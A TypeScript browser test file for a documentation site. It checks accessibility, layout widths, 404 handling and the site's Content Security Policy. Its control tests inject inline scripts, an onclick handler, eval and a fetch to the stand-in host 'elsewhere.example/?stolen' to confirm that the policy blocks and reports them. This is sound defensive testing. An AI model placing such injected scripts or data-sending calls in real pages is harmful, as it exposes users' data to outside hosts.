import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { SITE_FOLDER } from '../built-site.ts';
import { describeInBrowser, findBarriers, requestsElsewhere, siteUrl, visit } from '../visit-site.ts';

/** One page of each kind. */
const PAGES = [
  '/',
  '/start/what-is-an-event/',
  '/guides/evolve/',
  '/catalog/',
  '/tables/apiKeys/',
  '/systems/webhooks/',
  '/events/',
  '/events/apiKeys.create.validated/',
  '/envelope/',
  '/types/',
  '/graph/',
  '/playground/',
  '/reference/commands/',
  '/reference/changelog/',
];

/** Both colours and both widths; every pair of them with DOCS_LONG=1. */
const LOOKS = [
  { colorScheme: 'light', width: 1280 },
  ...(process.env['DOCS_LONG'] === '1'
    ? ([
        { colorScheme: 'dark', width: 1280 },
        { colorScheme: 'light', width: 375 },
      ] as const)
    : []),
  { colorScheme: 'dark', width: 375 },
] as const;

describeInBrowser('every kind of page', () => {
  test.each(PAGES)('%s has no barrier in light, dark and at 375 px, and never scrolls sideways', async (path) => {
    const { page } = await visit(path);
    // The playground's list of events, which its script loads.
    await page.waitForFunction(() => document.querySelector('[data-ready=false]') === null);
    for (const { colorScheme, width } of LOOKS) {
      await page.emulateMedia({ colorScheme });
      await page.setViewportSize({ width, height: 800 });
      await page.waitForFunction((theme) => document.documentElement.dataset['theme'] === theme, colorScheme);
      expect(await findBarriers(page)).toEqual([]);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(width);
    }
  });

  test('control: a picture without words, faint text and a page that is too wide are found', async () => {
    const { page } = await visit('/types/', { isChecked: false, viewport: { width: 375, height: 720 } });
    await page.evaluate(() => {
      const main = document.querySelector('main') as HTMLElement;
      main.append(document.createElement('img'));
      const faint = document.createElement('p');
      faint.textContent = 'Faint';
      faint.style.color = '#888';
      faint.style.background = '#999';
      faint.style.width = '900px';
      main.append(faint);
    });
    const barriers = await findBarriers(page);
    expect(barriers.filter((barrier) => /^(?:image-alt|color-contrast): /.test(barrier))).toHaveLength(2);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeGreaterThan(375);
  });

  test('a page that is not there says so', async () => {
    const { page, complaints } = await visit('/events/none/', { isChecked: false });
    expect(await page.locator('h1').textContent()).toContain('404');
    expect(complaints.filter((complaint) => !complaint.includes('404'))).toEqual([]);
    const links = await page.locator('main a').evaluateAll((found) => found.map((link) => link.getAttribute('href')));
    expect(links).toEqual(expect.arrayContaining(['/events/', '/catalog/', '/']));
    expect(await findBarriers(page)).toEqual([]);
  });
});

describeInBrowser('what a page may do', () => {
  test('control: a script that is not of the build does not run in a page, by its policy', async () => {
    const html = readFileSync(join(SITE_FOLDER, 'types/index.html'), 'utf8');
    const spoilt = html
      .replace('</head>', '<script>globalThis.injected = true</script></head>')
      .replace('<main', '<button id="handler" onclick="globalThis.injected = true">x</button><main');
    const { page, context, complaints } = await visit('/types/', { isChecked: false });
    await context.route('**/types/', (route) => route.fulfill({ body: spoilt, contentType: 'text/html' }));
    await page.goto(`${siteUrl()}/types/`);
    await page.locator('#handler').click();
    expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false);
    expect(complaints.filter((complaint) => complaint.includes('Content Security Policy')).length).toBeGreaterThan(1);
    await context.unroute('**/types/');
    await context.route('**/types/', (route) =>
      route.fulfill({
        body: spoilt.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''),
        contentType: 'text/html',
      }),
    );
    await page.goto(`${siteUrl()}/types/`);
    expect(await page.evaluate(() => 'injected' in globalThis)).toBe(true);
  });

  test('control: a page that makes code of text, or sends something elsewhere, is stopped and seen', async () => {
    const visited = await visit('/types/', { isChecked: false });
    const { page, context, complaints } = visited;
    const script = `try { eval('globalThis.evaluated = true') } catch {}
      fetch('https://elsewhere.example/?stolen').catch(() => {}).finally(() => { document.title = 'asked' })`;
    const html = readFileSync(join(SITE_FOLDER, 'types/index.html'), 'utf8').replace(
      '</head>',
      '<script src="/spoilt.js" defer></script></head>',
    );
    await context.route('**/spoilt.js', (route) => route.fulfill({ body: script, contentType: 'text/javascript' }));
    await context.route('**/types/', (route) => route.fulfill({ body: html, contentType: 'text/html' }));
    await page.goto(`${siteUrl()}/types/`);
    await page.waitForFunction(() => document.title === 'asked');
    expect(await page.evaluate(() => 'evaluated' in globalThis)).toBe(false);
    expect(complaints.join('\n')).toContain('elsewhere.example');
    expect(requestsElsewhere(visited)).toEqual([]);
    const lax = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    await context.unroute('**/types/');
    await context.route('**/types/', (route) => route.fulfill({ body: lax, contentType: 'text/html' }));
    await page.goto(`${siteUrl()}/types/`);
    await page.waitForFunction(() => document.title === 'asked');
    expect(await page.evaluate(() => 'evaluated' in globalThis)).toBe(true);
    expect(requestsElsewhere(visited)).toEqual(['https://elsewhere.example/?stolen']);
  });

  test('control: a warning in the console, a fault and a file that is not there are seen', async () => {
    const { page, complaints } = await visit('/types/', { isChecked: false });
    await page.evaluate(() => {
      console.warn('careful');
      setTimeout(() => {
        throw new Error('thrown');
      });
      return fetch('/gone.json').then(() => undefined);
    });
    await expect
      .poll(() => complaints.map((complaint) => complaint.split('\n')[0]))
      .toEqual(expect.arrayContaining(['warning: careful', 'uncaught: thrown', expect.stringMatching(/^404: /)]));
  });
});

test('the pages of this test are of the build', () => {
  expect(PAGES.filter((path) => !existsSync(join(SITE_FOLDER, path, 'index.html')))).toEqual([]);
});
